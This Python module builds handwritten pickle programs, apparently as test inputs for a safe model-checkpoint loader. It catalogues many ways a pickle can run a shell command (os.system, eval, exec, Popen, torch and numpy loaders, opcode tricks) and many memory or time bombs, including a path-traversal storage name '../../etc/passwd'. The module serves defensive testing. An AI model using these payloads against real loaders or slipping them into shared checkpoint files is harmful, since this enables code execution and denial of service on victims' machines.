"""Handwritten pickle programs that run code or use far more memory or time than their length justifies."""

from __future__ import annotations

import io
import os
import pickle
import struct
from typing import Any

import numpy as np
import torch

EXTENSION = 200  # an unused copyreg extension code


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def call(module: str, name: str, *arguments: bytes) -> bytes:
    return named(module, name) + b"(" + b"".join(arguments) + b"tR"


def integer(value: int) -> bytes:
    data = pickle.encode_long(value)
    return b"\x8a" + bytes([len(data)]) + data


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def put(number: int) -> bytes:
    return b"r" + struct.pack("<I", number)


def get(number: int) -> bytes:
    return b"j" + struct.pack("<I", number)


def latin(data: str) -> bytes:
    return call("_codecs", "encode", text(data), text("latin1"))


def storage(key: str, count: int, kind: str = "FloatStorage") -> bytes:
    return b"(" + text("storage") + named("torch", kind) + text(key) + text("cpu") + integer(count) + b"tQ"


def sizes(*values: int) -> bytes:
    return b"(" + b"".join(map(integer, values)) + b"t"


def tensor(shape: tuple[int, ...], stride: tuple[int, ...], offset: int = 0, count: int = 4) -> bytes:
    hooks = call("collections", "OrderedDict")
    given = (storage("0", count), integer(offset), sizes(*shape), sizes(*stride), b"\x89", hooks)
    return call("torch._utils", "_rebuild_tensor_v2", *given)


def state_of(value: bytes, key: str = "extra_state") -> bytes:
    """Return the program of {"model": {}, key: value}."""
    return b"\x80\x02}" + text("model") + b"}s" + text(key) + value + b"s."


def programs(command: str) -> dict[str, bytes]:
    """Return programs that would run a command or use far more memory or time than their length, by name."""
    run, python = text(command), text(f"__import__('os').system({command!r})")
    system, popen = named("os", "system"), named("subprocess", "Popen")
    words = b"]" + b"".join(text(word) + b"a" for word in command.split())
    module = call("importlib", "import_module", text("os"))
    packed = io.BytesIO()
    torch.save(Runs(command), packed)
    inner = latin(packed.getvalue().decode("latin1"))
    itself = named("argparse", "Namespace") + b")\x81" + put(0) + b"}" + text("x") + get(0) + b"sb"
    core = "numpy.core.multiarray" if np.__version__ < "2" else "numpy._core.multiarray"
    objects = call("numpy", "dtype", text("O8"), b"\x89", b"\x88")
    floats = call("numpy", "dtype", text("f8"), b"\x89", b"\x88")
    ndarray, eight, rebuild = named("numpy", "ndarray"), latin("12345678"), "torch._utils"
    whole = named("torch", "float32")
    array = call(core, "_reconstruct", ndarray, b"K\x00\x85", latin("b"))
    hook = b"(" + text("storage") + system + text("0") + text("cpu") + b"K\x01tQ"
    codes = {
        "os.system": call("os", "system", run),
        "posix.system": call("posix", "system", run),
        "builtins.eval": call("builtins", "eval", python),
        "builtins.exec": call("builtins", "exec", python),
        "__builtin__.eval": call("__builtin__", "eval", python),
        "builtins.getattr": call("builtins", "getattr", module, text("system")) + run + b"\x85R",
        "operator.attrgetter": call("operator", "attrgetter", text("system")) + module + b"\x85R" + run + b"\x85R",
        "operator.methodcaller": call("operator", "methodcaller", text("system"), run) + module + b"\x85R",
        "functools.partial": call("functools", "partial", system, run) + b")R",
        "partial.__setstate__": named("functools", "partial") + system + b"\x85R(" + system + run + b"\x85}NtbR",
        "runpy": call("runpy", "_run_code", python, b"}"),
        "timeit": call("timeit", "timeit", b"N", python),
        "ctypes": call("ctypes", "CDLL", text("libc.so.6")),
        "pip": call("pip", "main", b"]" + text("--version") + b"a"),
        "torch.load": call("torch", "load", text("/nowhere")),
        "torch.hub.load": call("torch.hub", "load", text("nobody/nothing"), text("model")),
        "torch.storage._load_from_bytes": call("torch.storage", "_load_from_bytes", inner),
        "torch.jit.load": call("torch.jit", "load", text("/nowhere")),
        "torch._utils._rebuild_wrapper_subclass": call("torch._utils", "_rebuild_wrapper_subclass", system, run),
        "numpy.load": call("numpy", "load", text("/nowhere"), b"N", b"\x88"),
        "copyreg._reconstructor": call("copyreg", "_reconstructor", popen, named("builtins", "object"), b"N"),
        "REDUCE of a result": call("collections", "OrderedDict") + run + b"\x85R",
        "BUILD of a class": named("argparse", "Namespace") + b"N}" + text("__repr__") + system + b"s\x86b",
        "BUILD of a dict": call("collections", "OrderedDict") + b"}" + text("copy") + system + b"sb",
        "BUILD of a namespace": named("argparse", "Namespace") + b")\x81}" + text("__class__") + system + b"sb",
        "INST": b"(" + run + b"ios\nsystem\n",
        "OBJ": b"(" + system + run + b"o",
        "NEWOBJ": popen + words + b"\x85\x81",
        "NEWOBJ_EX": popen + b")}" + text("args") + words + b"s\x92",
        "STACK_GLOBAL": short("os") + short("system") + b"\x93" + run + b"\x85R",
        "STACK_GLOBAL with dots": short("shutil") + short("os.system") + b"\x93" + run + b"\x85R",
        "GLOBAL with dots": named("shutil", "os.system") + run + b"\x85R",
        "EXT1": b"\x82" + bytes([EXTENSION]) + run + b"\x85R",
        "EXT4": b"\x84" + struct.pack("<i", EXTENSION) + run + b"\x85R",
        "persistent id that is text": text("storage") + b"Q",
        "persistent id on a line": b"Pstorage\n",
        "persistent id of a function": hook,
        "persistent id of a dict": b"}Q",
        "persistent id of an old module": b"(" + text("module") + system + run + text("x") + b"tQ",
        "array of objects": array + b"(K\x01K\x01\x85" + objects + b"\x89]" + call("os", "system", run) + b"atb",
        "dtype with changed flags": floats + b"(K\x03" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3ftb",
        "dtype of objects": objects,
    }
    doubling = latin("ab" * 100)
    for _ in range(40):
        doubling = named("_codecs", "encode") + b"(" + doubling + text("hex_codec") + b"tR"
    # All values stay on the stack, and the program ends by making a tuple of them.
    laughs = b"(]" + put(0) + b"".join(b"]" + get(n) + b"a" + get(n) + b"a" + put(n + 1) for n in range(60)) + b"t"
    tuples = b"()" + put(0) + b"".join(get(n) + get(n) + b"\x86" + put(n + 1) for n in range(60)) + b"t"
    bombs = {
        "lists that contain each other twice": laughs,
        "lists that contain each other twice, in a dict": b"}" + text("x") + laughs + b"s",
        "tuples that contain each other twice": tuples,
        "a key whose hash never ends": b"}" + tuples + b"K\x01s",
        "a deeply nested key": b"}" + b")" + b"\x85" * 100_000 + b"K\x01s",
        "a list that contains itself": b"]" + put(0) + get(0) + b"a",
        "a namespace that contains itself": itself,
        "100,000 lists deep": b"]" * 100_000 + b"a" * 99_999,
        "100,000 tuples deep": b")" + b"\x85" * 100_000,
        "a million empty lists": b"(" + b"]" * 1_000_000 + b"t",
        "keys that collide": b"}(" + b"".join(integer(n * (2**61 - 1)) + b"N" for n in range(20_000)) + b"u",
        "a memo of 4e9 entries": b"]" + put(2**32 - 1) + get(7),
        "a text longer than the file": b"X" + struct.pack("<I", 2**32 - 1) + b"x",
        "a bytearray of 100 GB": call("__builtin__", "bytearray", integer(10**11)),
        "a tensor of 400 GB, by its storage class": call("torch", "FloatStorage", integer(10**11)),
        "bytes doubled forty times": doubling,
        "an array of 800 GB": call("numpy", "ndarray", sizes(10**11), floats),
        "an array of 800 GB, rebuilt": call(core, "_reconstruct", ndarray, sizes(10**11), latin("d")),
        "an array of 80 GB in 8 bytes": array + b"(K\x01" + sizes(10**10) + floats + b"\x89" + eight + b"tb",
        "an array of 8e9 objects": call("numpy", "ndarray", sizes(10**9), objects),
        "a tensor expanded to 1e12": tensor((10**6, 10**6), (0, 0)),
        "a tensor expanded to 1e12 with overlaps": tensor((10**6, 10**6), (1, 1)),
        "a tensor beyond its storage": tensor((4,), (1,), 1),
        "a tensor with strides beyond its storage": tensor((2, 2), (10**9, 1)),
        "a tensor that starts before its storage": tensor((4,), (-1,)),
        "a tensor of 65 dimensions": tensor((1,) * 65, (1,) * 65),
        "a tensor of more than 2^63 elements": tensor((2**62, 2**62), (1, 1)),
        "a storage larger than its record": tensor((10**9,), (1,), 0, 10**9),
        "a storage without a record": storage("1", 4),
        "a storage named like another file": storage("../../etc/passwd", 4),
        "a sparse tensor": call("torch._utils", "_rebuild_sparse_tensor", named("torch", "sparse_coo"), b")"),
        "a quantised tensor": call(rebuild, "_rebuild_qtensor", storage("0", 4), b"K\x00", sizes(10**12), sizes(0)),
        "a meta tensor": call(rebuild, "_rebuild_meta_tensor_no_storage", whole, sizes(10**12), sizes(1), b"\x89"),
        "a name of 10 MB": named("os" * 5_000_000, "system"),
    }
    return {f"code: {name}": code for name, code in codes.items()} | {
        f"bomb: {name}": code for name, code in bombs.items()
    }


class Runs:
    """An object whose unpickling runs a shell command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)
